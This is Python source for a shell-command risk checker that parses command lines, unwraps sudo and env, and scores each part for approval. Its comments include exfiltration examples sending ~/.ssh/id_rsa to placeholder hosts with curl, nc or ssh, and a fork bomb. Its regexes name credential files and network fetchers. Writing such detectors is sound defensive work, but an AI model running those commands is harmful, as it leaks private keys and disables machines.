"""The invocation check: parse a line, unwrap wrappers, look tools up, apply the knowledge.

The line's level is the most severe of its parts (:func:`more_severe`, where UNKNOWN needs
approval); its decision follows the TCP policy (:func:`tcplab.descriptor.decide`).
"""

from __future__ import annotations

import os
import re
from typing import TYPE_CHECKING, Any

from tcplab.check._knowledge import Knowledge, ToolSpec, more_severe, severity
from tcplab.check._parse import Segment, clear_parse_cache, parse
from tcplab.check._sources import Sources, default_registry_path, resolve
from tcplab.check._view import View
from tcplab.check._wrappers import INTERPRETERS, SHELLS, unwrap
from tcplab.descriptor import Capability, Decision, RiskLevel, decide

if TYPE_CHECKING:
    from tcplab.check._compiled import CompiledKnowledge
    from tcplab.check._model import CheckResult
    from tcplab.check._repo import RepoContext
    from tcplab.registry import Registry

__all__ = [
    "MAX_DEPTH",
    "MAX_LINE_CHARS",
    "SCHEMA_VERSION",
    "Part",
    "check",
    "clear_caches",
    "decide_line",
    "default_registry_path",
    "evaluate",
    "result_dict",
]

SCHEMA_VERSION = 1
MAX_DEPTH = 8
MAX_LINE_CHARS = 1 << 20
_U, _C, _H, _M = RiskLevel.UNKNOWN, RiskLevel.CRITICAL, RiskLevel.HIGH_RISK, RiskLevel.MEDIUM_RISK
_FILE = int(Capability.FILE_MODIFICATION)
_DESTROY = int(Capability.DESTRUCTIVE)
_SYS = int(Capability.SYSTEM_MODIFICATION)
_NET = int(Capability.NETWORK_ACCESS)
_HARMLESS = re.compile(r"^/dev/(null|zero|stdout|stderr|tty|fd/\d+)$")
_BLOCK = re.compile(r"^/dev/(sd|nvme|hd|vd|xvd|mmcblk|md|dm-|loop|mapper/|disk)")
_STARTUP = re.compile(r"(^|/)(\.bashrc|\.bash_profile|\.profile|\.zshrc|\.ssh/|\.gitconfig)")
_CRITICAL_FILES = re.compile(
    r"^/(proc/sysrq-trigger|etc/(passwd|shadow|group|gshadow|sudoers|fstab)$|boot/)"
)
_FORK_BOMB = re.compile(r"(?:^|[;&|\s])([\w:.-]+)\s*\(\s*\)\s*\{([^}]*)\}")
_FETCHERS = frozenset({"curl", "wget", "fetch", "nc", "ncat"})
_CAP_NAMES: dict[int, list[str]] = {}
# enum .name / .value are properties (slow on the per-line path): looked up once here
_LEVEL_NAME = {lv: lv.name for lv in RiskLevel}
_DECISION_OF = {lv: decide(lv) for lv in RiskLevel}
_DECISION_VALUE = {lv: d.value for lv, d in _DECISION_OF.items()}
_SEV = {lv: severity(lv) for lv in RiskLevel}
_BUILD: list[Any] = []
_NO_ARGS: frozenset[str] = frozenset()  # [tcplab.check._model.build_result] once imported
# Per-segment decisions of plain tools (no wrapper, no inline program), by sources and words.
_SEGMENTS: dict[tuple[Any, tuple[str | None, ...]], tuple[list[Any], bool]] = {}
_SEGMENTS_MAX = 8192
_PY, _JS, _PL = frozenset({"-c"}), frozenset({"-e", "-p", "--eval", "--print"}), frozenset({"-e"})
_PROGRAM_FLAGS = {
    "python": _PY,
    "python3": _PY,
    "python2": _PY,
    "node": _JS,
    "perl": _PL,
    "ruby": _PL,
    "awk": _PL,
    "gawk": _PL,
}

Part = tuple[str, str, str, RiskLevel, int, str]  # segment, source, rule, level, caps, detail


class _Ctx:
    __slots__ = ("knowledge", "parts", "repo", "sources", "stages")

    def __init__(self, sources: Sources) -> None:
        self.sources = sources
        self.repo: RepoContext | None = None  # the directories of the line (cwd= given)
        self.knowledge: Knowledge | CompiledKnowledge = sources.knowledge
        self.parts: list[Part] = []
        self.stages: dict[int, list[tuple[int, str, bool]]] = {}  # pipe -> (stage, tool, stdin)

    def add(self, seg: str, source: str, rule: str, level: RiskLevel, caps: int, why: str) -> None:
        self.parts.append((seg, source, rule, level, caps, why))


def _registry_level(ctx: _Ctx, name: str, sub: str | None) -> tuple[RiskLevel, int, str]:
    view = ctx.sources.view
    if view is None:
        return _U, 0, ""
    for key in (f"{name} {sub}", name) if sub else (name,):
        found = view.level(key)
        if found is not None:
            return found[0], found[1], key
    return _U, 0, ""


def _tool(ctx: _Ctx, seg: str, name: str, words: list[str | None]) -> View:
    """Level of one simple command of a non-wrapper tool; returns its argument view."""
    spec: ToolSpec | None = ctx.knowledge.tools.get(name)
    view = View(words, spec.options) if spec is not None else View(words)
    if ctx.sources.view is None:
        reg_level, reg_caps, key = _U, 0, ""
    else:
        reg_level, reg_caps, key = _registry_level(ctx, name, view.sub)
    if spec is None:
        why = f"registry descriptor {key!r}" if key else "tool not in the registry nor knowledge"
        ctx.add(seg, "registry", key or name, reg_level, reg_caps, why)
        return view
    if reg_level is _U:
        level, caps, src = spec.level, spec.caps, "knowledge"
    else:
        level, caps, src = more_severe(reg_level, spec.level), reg_caps | spec.caps, "registry"
    base_rule = ""
    raised: list[Part] = []
    parts = ctx.parts
    for rule in spec.table(view.sub).candidates(view):
        if not rule.matches(view):
            continue
        effect = rule.effect
        if effect == "final":
            parts.append((seg, "knowledge", rule.name, rule.level, rule.caps, rule.why))
            return view
        if effect == "set" and src != "set":
            level, caps, src, base_rule = rule.level, rule.caps, "set", rule.name
            base_why = rule.why
        elif effect == "raise":
            raised.append((seg, "knowledge", rule.name, rule.level, rule.caps, rule.why))
    if src == "set":
        parts.append((seg, "knowledge", base_rule, level, caps, base_why))
    else:
        why = f"registry descriptor {key!r}" if key else (spec.why or f"{name} (knowledge)")
        parts.append((seg, src, key or name, level, caps, why))
    if raised:
        parts.extend(raised)
    if view.dynamic and spec.dynamic is not None:
        ctx.add(seg, "knowledge", f"{name}.dynamic", spec.dynamic, 0, "argument is not static")
    return view


def _program(words: list[str | None], name: str) -> str | None:
    """The inline program of ``python -c CODE``, ``node -e CODE``… (None: no static program)."""
    flags = _PROGRAM_FLAGS[name]
    for i, w in enumerate(words[1:-1], 1):
        if w in flags:
            return words[i + 1]
    return None


def _stdin_program(ctx: _Ctx, seg: Segment, name: str, words: list[str | None], depth: int) -> bool:
    """``python3 - <<'EOF' … EOF``, ``bash <<< 'cmd'``: the static text on standard input is
    the program when the interpreter has no script operand (or ``-``) and no ``-c``/``-e``.
    False when that is not the case (the command is checked as usual)."""
    if seg.stdin is None or name not in INTERPRETERS or name in ("awk", "gawk"):
        return False
    operands = View(words).operands
    if operands and operands[0] != "-":
        return False  # a script file (standard input is its data) or an unknown option's value
    if name in SHELLS:
        if any(
            w is None or (w.startswith("-") and "c" in w and not w.startswith("--"))
            for w in words[1:]
        ):
            return False
        ctx.add(seg.text, "wrapper", name, RiskLevel.SAFE, 0, "runs the script on its stdin")
        _text(ctx, seg.stdin, depth + 1)
        return True
    if name not in _PROGRAM_FLAGS or _program(words, name) is not None:
        return False
    return _inline(ctx, seg, name, words, depth, seg.stdin)


def _inline(
    ctx: _Ctx,
    seg: Segment,
    name: str,
    words: list[str | None],
    depth: int,
    stdin: str | None = None,
) -> bool:
    """Check an inline program; False when there is none (the tool is checked as usual)."""
    awk = name in ("awk", "gawk")
    operands = View(words).operands if awk and "-f" not in words else []
    code = (operands[0] if operands else None) if awk else _program(words, name)
    code = stdin if stdin is not None else code
    if code is None:
        return False
    from tcplab.check._inline import inline_program  # only lines with an inline program

    found = inline_program(code, ctx.knowledge.system, awk, name not in ("perl", "ruby"))
    if not awk:
        safe = found.verdict is not None
        level = found.verdict if found.verdict is not None else _H
        why = "the program only computes, reads and prints" if safe else "runs arbitrary code"
        ctx.add(seg.text, "knowledge", f"{name} -c", level, 0, why)
    for level, caps, why in found.parts:
        ctx.add(seg.text, "knowledge", f"{name} program", level, caps, why)
    for line in found.shell:
        _text(ctx, line, depth + 1)
    return not awk


def _command(ctx: _Ctx, seg: Segment, words: list[str | None], depth: int) -> None:
    if not words:
        return
    head = words[0]
    if head is None:
        ctx.add(seg.text, "parser", "dynamic-command", _U, 0, "command name is not static")
        return
    name = head.rsplit("/", 1)[-1] if "/" in head and not head.endswith("/") else head
    if depth > MAX_DEPTH:
        ctx.add(seg.text, "parser", "depth", _U, 0, f"wrappers nested deeper than {MAX_DEPTH}")
        return
    if ctx.repo is not None:  # git's config and hooks, directory changes
        from tcplab.check._repo import segment_reasons

        if "/" in head and not head.startswith("/"):
            why = f"runs {head} from the directory, not the installed {name}"
            ctx.add(seg.text, "repository", "relative-program", _U, 0, why)

        for rule, level, why in segment_reasons(ctx.repo, name, words):
            ctx.add(seg.text, "repository", rule, level, 0, why)
    if name in _SETTERS:  # printf -v PAGER …, read PAGER: builtins that set a variable
        _env(ctx, seg.text, [w for w in words[1:] if w and w.isidentifier()], command=False)
    if seg.stdin is not None and _stdin_program(ctx, seg, name, words, depth):
        return
    key = (ctx.sources, tuple(words))
    memo = _SEGMENTS.get(key)
    if memo is not None:  # the cached per-segment decision: one dict lookup
        parts, reads = memo
        ctx.parts.extend([(seg.text, *p) for p in parts])
        if seg.pipe >= 0:
            ctx.stages.setdefault(seg.pipe, []).append((seg.stage, name, reads))
        return
    wrapped = unwrap(name, words)
    if wrapped is None:
        if name in _PROGRAM_FLAGS and _inline(ctx, seg, name, words, depth):
            return
        start = len(ctx.parts)
        view = _tool(ctx, seg.text, name, words)
        reads = name in INTERPRETERS and (not view.operands or view.operands[0] == "-")
        if len(_SEGMENTS) >= _SEGMENTS_MAX:
            _SEGMENTS.clear()
        _SEGMENTS[key] = ([p[1:] for p in ctx.parts[start:]], reads)
        if seg.pipe >= 0:
            ctx.stages.setdefault(seg.pipe, []).append((seg.stage, name, reads))
        return
    ctx.add(seg.text, "wrapper", name, wrapped.level, wrapped.caps, wrapped.why)
    for target in wrapped.writes:  # the wrapper's own output file, judged like a redirect
        _redirect(ctx, Segment(seg.text, [], (f"{name} -o", target)))
    if name in ("env", "sudo", "doas"):
        _env(ctx, seg.text, _assignments(words[1:]), command=True)
    for inner in wrapped.inner:
        _command(ctx, seg, inner, depth + 1)
    for script in wrapped.scripts:
        if script is None:
            ctx.add(seg.text, "wrapper", name, _U, 0, f"{name}: the script is not static")
        else:
            _text(ctx, script, depth + 1)


def _redirect(ctx: _Ctx, seg: Segment) -> None:
    assert seg.redirect is not None
    op, target = seg.redirect
    if target is None:
        ctx.add(seg.text, "redirect", op, _H, _FILE, "writes to a path that is not static")
    elif _HARMLESS.match(target):
        return
    elif _CRITICAL_FILES.match(target):
        ctx.add(seg.text, "redirect", op, _C, _FILE | _SYS, f"writes {target}")
    elif op == ">>" and _STARTUP.search(target) and not target.startswith("/"):
        ctx.add(seg.text, "redirect", op, _M, _FILE, f"appends to start-up file {target}")
    elif _BLOCK.match(target):
        ctx.add(seg.text, "redirect", op, _C, _FILE | _DESTROY, f"writes block device {target}")
    elif target.startswith("/boot"):
        ctx.add(seg.text, "redirect", op, _C, _FILE | _SYS, f"writes system path {target}")
    elif ctx.knowledge.system.match(target) or _STARTUP.search(target):
        ctx.add(seg.text, "redirect", op, _H, _FILE | _SYS, f"writes system or startup {target}")
    else:
        ctx.add(seg.text, "redirect", op, _M, _FILE, f"writes file {target}")


# Variables that make a program load or run other code (HIGH), or look up code elsewhere.
_CODE_ENV = re.compile(
    r"^(LD_\w+|DYLD_\w+|GCONV_PATH|PERL5OPT|RUBYOPT|NODE_OPTIONS|PYTHONSTARTUP|PYTHONHOME|"
    r"BASH_ENV|ENV|PROMPT_COMMAND|SHELLOPTS|BASHOPTS|IFS|PAGER|MANPAGER|SYSTEMD_PAGER|GIT_\w+|"
    r"EDITOR|VISUAL|LESSOPEN|LESSCLOSE|SSH_ASKPASS|SUDO_ASKPASS|BROWSER|JAVA_TOOL_OPTIONS|"
    r"_JAVA_OPTIONS|JDK_JAVA_OPTIONS|MAKEFLAGS|CC|CXX|LDFLAGS|PS0|PS1|PS2|PS4|KUBECONFIG|"
    r"KUBECTL_EXTERNAL_DIFF|KUBE_EDITOR|npm_config_\w+|NPM_CONFIG_\w+|GOFLAGS|RUSTC_WRAPPER|"
    r"RUSTC|CARGO_\w+|PIP_CONFIG_FILE|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|PYTHONWARNINGS)$"
)
# Files whose content must not leave the machine unasked (keys, credentials, password hashes).
_SECRET = re.compile(
    r"(^|[@=:/])(\.ssh(/|$)|\.aws(/|$)|\.gnupg(/|$)|\.kube/config|\.docker/config\.json|\.netrc$|"
    r"\.pgpass$|\.git-credentials$|\.npmrc$|\.pypirc$|\.env$|id_(rsa|dsa|ecdsa|ed25519)\b|"
    r"etc/(shadow|gshadow|sudoers)$|\.(pem|key|p12|pfx|kdbx|keystore|jks)$)"
)
_SECRET_HINT = re.compile(
    r"\.ssh|\.aws|\.gnupg|\.kube|\.docker|netrc|pgpass|credentials|"
    r"npmrc|pypirc|\.env|id_|shadow|sudoers|\.pem|\.key|\.p12|\.pfx|"
    r"kdbx|keystore|\.jks"
)
_SETTERS = frozenset({"printf", "read", "readarray", "mapfile", "getopts"})
_PATH_ENV = frozenset({"PATH", "PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB"})


# Single-quoted text that looks like a command substitution, in a line where bash may evaluate
# it again: arithmetic ($((x)), let, declare -i, [[ -eq ]]), prompt expansion (${x@P}, PS4).
# Text that becomes `$(` only later: single-quoted, escaped (`\$(`), written as `\x24`, or put
# together from a variable (`${p}(`).
_LITERAL_SUBST = re.compile(r"'[^']*(\$\(|`)[^']*'|\\\$\(|\\`|\\x24|\\044|\\u0024|\$\{?\w+\}?\(")
# Where bash evaluates a value again: arithmetic (also array subscripts, substring offsets,
# `$[…]`, integer variables, `[[ -eq ]]`), prompt expansion, indirection, and builtins that take
# an array element's name (`printf -v 'a[$(…)]'`, `read`, `unset`, `test -v`, `declare`).
_REEVAL = re.compile(
    r"\$\(\(|\(\(|\[\[|\$\[|\$\{!|\$\{#?\w+(\[|:)|\blet\b|@P\}|\bPS[0-4]=|set\s+-\w*x|"
    r"\b(declare|typeset|local)\s+(-\w+\s+)*-\w*i|"
    r"\[\s+-v\b|\b(printf\s+(-\w+\s+)*-v|read|unset|test\s+-v|declare|typeset|readonly|"
    r"wait\s+-p|mapfile|readarray)\b"
)
# An alias defined before a later line: with expand_aliases that line reads differently.
_ALIAS_LATER = re.compile(r"\balias\s+[^\n]*=[^\n]*\n[\s\S]*\S")


def _reevaluated(ctx: _Ctx, text: str) -> None:
    if _LITERAL_SUBST.search(text) and _REEVAL.search(text):
        why = "quoted text that looks like $(…) may be evaluated again (arithmetic or prompt)"
        ctx.add(text, "parser", "re-evaluation", _H, 0, why)
    if "alias" in text and _ALIAS_LATER.search(text):
        why = "an alias defined here changes how the later lines read"
        ctx.add(text, "parser", "alias", _U, 0, why)


def _assignments(words: list[str | None]) -> list[str]:
    return [
        w.split("=", 1)[0] for w in words if w and "=" in w and w.split("=", 1)[0].isidentifier()
    ]


def _env(ctx: _Ctx, text: str, names: Any, command: bool) -> None:
    """``LD_PRELOAD=x.so ls``, ``export PAGER='sh -c …'``: variables that run other code."""
    for name in names:
        if _CODE_ENV.match(name) and not (name.startswith("GIT_") and name in _GIT_HARMLESS):
            why = f"sets {name} (makes programs load or run other code)"
            ctx.add(text, "environment", name, _H, 0, why)
        elif command and name in _PATH_ENV:
            why = f"sets {name} for the command (code is looked up in other places)"
            ctx.add(text, "environment", name, _M, 0, why)


_GIT_HARMLESS = frozenset(
    {"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"}
    | {"GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE", "GIT_TERMINAL_PROMPT", "GIT_TRACE"}
)


def _secret_words(seg: Segment) -> list[str]:
    """Secret files among the arguments and inputs; an identity file (``ssh -i KEY``,
    ``-oIdentityFile=KEY``) authenticates locally and is not sent."""
    words, out = seg.words, []
    for i, w in enumerate(words[1:], 1):
        if w is None or not _SECRET.search(w):
            continue
        if words[i - 1] == "-i" or w.startswith("-i") or "IdentityFile" in w:
            continue
        out.append(w)
    return out + [w for w in seg.inputs if _SECRET.search(w)]


def _sends(ctx: _Ctx, seg: Segment) -> None:
    """What a command that talks to the network can send away: the output of a command
    substitution in its arguments (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``), or a secret
    file named in its arguments or redirected into it (``nc host 80 < ~/.ssh/id_rsa``)."""
    if seg.subst:
        why = "sends the output of a command substitution over the network"
        ctx.add(seg.text, "pipeline", "substitution->network", _H, _NET, why)
    secret = _secret_words(seg)
    if secret:
        why = f"can send a secret file over the network ({secret[0]})"
        ctx.add(seg.text, "pipeline", "secret->network", _H, _NET, why)


def _pipelines(ctx: _Ctx, text: str) -> None:
    for stages in ctx.stages.values():
        fetch = [s for s, tool, _ in stages if tool in _FETCHERS]
        if fetch and any(s > min(fetch) and reads for s, _, reads in stages):
            why = "a download is piped into an interpreter (code nobody reviewed runs here)"
            ctx.add(text, "pipeline", "fetch|interpreter", _H, 0, why)


def _recursion(ctx: _Ctx, text: str) -> None:
    """A function that calls itself in its own body (``:(){ :|:& };:``): a fork bomb."""
    for m in _FORK_BOMB.finditer(text):
        name = re.escape(m.group(1))
        if re.search(rf"(?:^|[\s;&|(]){name}(?:$|[\s;&|)])", m.group(2)):
            why = f"function {m.group(1)} calls itself (fork bomb)"
            ctx.add(text, "parser", "recursive-function", _C, _DESTROY, why)


def _text(ctx: _Ctx, text: str, depth: int) -> None:
    if depth > MAX_DEPTH:
        ctx.add(text, "parser", "depth", _U, 0, f"scripts nested deeper than {MAX_DEPTH}")
        return
    if "(" in text and "{" in text:
        _recursion(ctx, text)
    if "$" in text or "`" in text or "alias" in text:
        _reevaluated(ctx, text)
    parsed = parse(text)
    if parsed.errors:
        for error in dict.fromkeys(parsed.errors):
            ctx.add(text, "parser", "parse-error", _U, 0, error)
    saved, ctx.stages = ctx.stages, {}
    secret_stage: dict[int, int] = {}  # pipe -> first stage that names a secret file
    net_stages: dict[int, list[int]] = {}  # pipe -> stages that talk to the network
    for seg in parsed.segments:
        if seg.redirect is not None:
            _redirect(ctx, seg)
            continue
        if seg.env:
            _env(ctx, seg.text, seg.env, command=bool(seg.words))
        start = len(ctx.parts)
        _command(ctx, seg, seg.words, depth)
        net = False
        for part in ctx.parts[start:]:
            if part[4] & _NET:
                net = True
                break
        if not net and seg.pipe < 0:  # most parts: nothing can leave the machine here
            continue
        hinted = _SECRET_HINT.search(seg.text) is not None
        if net and (seg.subst or seg.inputs or hinted):
            _sends(ctx, seg)
        if seg.pipe >= 0:
            if hinted and _secret_words(seg):
                secret_stage.setdefault(seg.pipe, seg.stage)
            if net:
                net_stages.setdefault(seg.pipe, []).append(seg.stage)
    for pipe, stage in secret_stage.items():  # cat ~/.ssh/id_rsa | ssh host cat
        if any(later > stage for later in net_stages.get(pipe, ())):
            why = "a secret file is piped into a command that talks to the network"
            ctx.add(text, "pipeline", "secret|network", _H, _NET, why)
    if ctx.stages:
        _pipelines(ctx, text)
    ctx.stages = saved


def _cap_names(caps: int) -> list[str]:
    found = _CAP_NAMES.get(caps)
    if found is None:
        found = _CAP_NAMES[caps] = Capability.names(caps)
    return list(found)


def result_dict(ctx: _Ctx, line: str) -> dict[str, Any]:
    """The result as plain JSON-ready data: the fields of ``CheckResult``, in its order."""
    level, caps = RiskLevel.SAFE, 0
    reasons = []
    sev = _SEV
    names = _CAP_NAMES
    for seg, source, rule, lvl, c, why in ctx.parts:
        if sev[lvl] > sev[level]:  # more_severe, inlined
            level = lvl
        caps |= c
        found = names.get(c)
        reasons.append(
            {
                "segment": seg,
                "source": source,
                "rule": rule,
                "risk_level": _LEVEL_NAME[lvl],
                "decision": _DECISION_VALUE[lvl],
                "capabilities": list(found) if found is not None else _cap_names(c),
                "detail": why,
            }
        )
    return {
        "schema_version": SCHEMA_VERSION,
        "command": line,
        "decision": _DECISION_VALUE[level],
        "risk_level": _LEVEL_NAME[level],
        "capabilities": _cap_names(caps),
        "reasons": reasons,
        "knowledge_version": ctx.knowledge.version,
        "registry": ctx.sources.path,
    }


def _result(ctx: _Ctx, line: str) -> CheckResult:
    """The result model, built without validation (every field is made here, typed)."""
    if not _BUILD:
        from tcplab.check._model import build_result  # pydantic: not on the hook's path

        _BUILD.append(build_result)
    return _BUILD[0](result_dict(ctx, line))  # type: ignore[no-any-return]


def clear_caches() -> None:
    """Forget kept parse results and per-segment decisions (benchmarks of cold lines)."""
    _SEGMENTS.clear()
    clear_parse_cache()


def check(
    line: str,
    registry: Registry | str | os.PathLike[str] | None = None,
    *,
    cwd: str | os.PathLike[str] | None = None,
) -> CheckResult:
    """Decide a whole command line (the most severe of its parts; see ``docs/check.md``).

    ``registry``: a :class:`~tcplab.registry.Registry` or a path; None uses
    ``TCPLAB_HOME/registry/tools.tcpdb`` when it exists (tools absent from it are UNKNOWN
    unless the invocation knowledge describes them). ``cwd``: the directory the line will run
    in; when given, git commands are also judged by what the repository there runs (its config
    and hooks; ``docs/check.md``, "Repository context"), so the decision reads the file system.

    Raises:
        MissingDependencyError: tree-sitter-bash is not installed (``tcplab[check]``).
    """
    ctx = evaluate(line, registry, cwd=cwd)
    return _result(ctx, line)


def decide_line(
    line: str,
    registry: Registry | str | os.PathLike[str] | None = None,
    *,
    cwd: str | os.PathLike[str] | None = None,
) -> tuple[Decision, RiskLevel]:
    """Only the decision and level of :func:`check` (same evaluation, no result model built)."""
    level, sev = RiskLevel.SAFE, _SEV
    for part in evaluate(line, registry, cwd=cwd).parts:
        if sev[part[3]] > sev[level]:  # more_severe, inlined
            level = part[3]
    return _DECISION_OF[level], level


def evaluate(
    line: str,
    registry: Registry | str | os.PathLike[str] | None = None,
    *,
    cwd: str | os.PathLike[str] | None = None,
) -> _Ctx:
    """The parts of a line's decision (``.parts``: segment, source, rule, level, caps, detail)."""
    ctx = _Ctx(resolve(registry))
    if cwd is not None:
        from tcplab.check._repo import RepoContext  # only lines checked with a directory

        ctx.repo = RepoContext(os.fspath(cwd), line)
        if len(line) <= MAX_LINE_CHARS:  # a first pass finds every directory the line may
            _text(ctx, line, 0)  # be in (a loop or an EXIT trap runs git after a later cd)
            ctx.parts, ctx.stages = [], {}
    if len(line) > MAX_LINE_CHARS:
        ctx.add(line[:80], "parser", "too-long", _U, 0, f"longer than {MAX_LINE_CHARS} chars")
    else:
        _text(ctx, line, 0)
    return ctx
